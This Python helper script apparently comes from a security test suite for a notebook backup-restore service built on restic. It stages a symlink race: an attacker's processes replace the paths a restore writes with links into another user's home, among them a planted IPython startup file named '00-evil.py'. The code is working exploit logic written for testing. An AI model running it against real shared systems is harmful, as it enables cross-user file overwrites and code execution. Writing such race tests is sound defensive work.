"""mallory's own processes during a restore of her home: they replace the paths the restore
writes (its folders, their parents, the paths an in-place restore overwrites) with symbolic
links into bob's home. They work only inside her home, as a user's pod can (it mounts her claim
alone), and never through a link of their own.

Standalone (no test imports), run as a separate process:

- ``planting.py loop HOME VICTIM``: plants round after round until SIGTERM; prints ``ready``
  after the first round and the number of links planted when it ends;
- ``planting.py exec HOME VICTIM DAY RESTIC ARGS...``: when ARGS is a ``restore``, plants one
  round (and a link at the predictable ``restored-DAY``), then execs ``RESTIC ARGS``: the race
  made deterministic, the links are there when restic starts.
"""

from __future__ import annotations

import itertools
import os
import signal
import stat
import sys

EVIL = ".ipython/profile_default/startup/00-evil.py"

#: the paths of a restore that mallory points at the same path in bob's home
IN_PLACE_PATHS = [
    ".ipython",
    ".ipython/profile_default",
    ".ipython/profile_default/startup",
    EVIL,
    "données",
    "données/数据",
    "notebook ✓.ipynb",
    "données/résumé.txt",
]
FOLDER_PREFIXES = ("restored-", ".egi-notebooks-restore-")

_aside = itertools.count()


def _real_parent(home: str, rel: str) -> bool:
    """Whether every folder above ``rel`` in ``home`` is a real directory (not a link)."""
    path = home
    for part in rel.split("/")[:-1]:
        path = os.path.join(path, part)
        try:
            if not stat.S_ISDIR(os.lstat(path).st_mode):
                return False
        except OSError:
            return False
    return True


def _swap(path: str, target: str) -> bool:
    """Put a link to ``target`` at ``path``, moving what is there aside (in the same folder)."""
    try:
        mode = os.lstat(path).st_mode
    except FileNotFoundError:
        mode = None
    except OSError:
        return False
    if mode is not None and stat.S_ISLNK(mode):
        return False
    try:
        if mode is not None:
            os.rename(path, f"{path}.aside-{os.getpid()}-{next(_aside)}")
        os.symlink(target, path)
    except OSError:  # the restore got there first: next round
        return False
    return True


def plant_once(home: str, victim: str, day: str = "") -> int:
    """One round; the number of links planted."""
    try:
        names = os.listdir(home)
    except OSError:
        return 0
    # a folder moved aside is still the one the restore writes into: planted in as well
    folders = [n for n in names if n.startswith(FOLDER_PREFIXES)]
    jobs = [(n, victim) for n in folders if ".aside-" not in n]
    if day:
        jobs.append((f"restored-{day}", victim))
    for n in folders:
        jobs += [(f"{n}/{p}", os.path.join(victim, p)) for p in IN_PLACE_PATHS]
    jobs += [(p, os.path.join(victim, p)) for p in IN_PLACE_PATHS]
    return sum(
        _real_parent(home, rel) and _swap(os.path.join(home, rel), target) for rel, target in jobs
    )


def loop(home: str, victim: str) -> None:
    stop = []
    signal.signal(signal.SIGTERM, lambda *_: stop.append(1))
    planted = plant_once(home, victim)
    print("ready", flush=True)
    while not stop:
        planted += plant_once(home, victim)
    print(planted, flush=True)


def main(argv: list[str]) -> None:
    if argv[0] == "loop":
        loop(argv[1], argv[2])
        return
    home, victim, day, restic, *args = argv[1:]
    if args[:1] == ["restore"]:
        plant_once(home, victim, day)
    os.execv(restic, [restic, *args])


if __name__ == "__main__":
    main(sys.argv[1:])
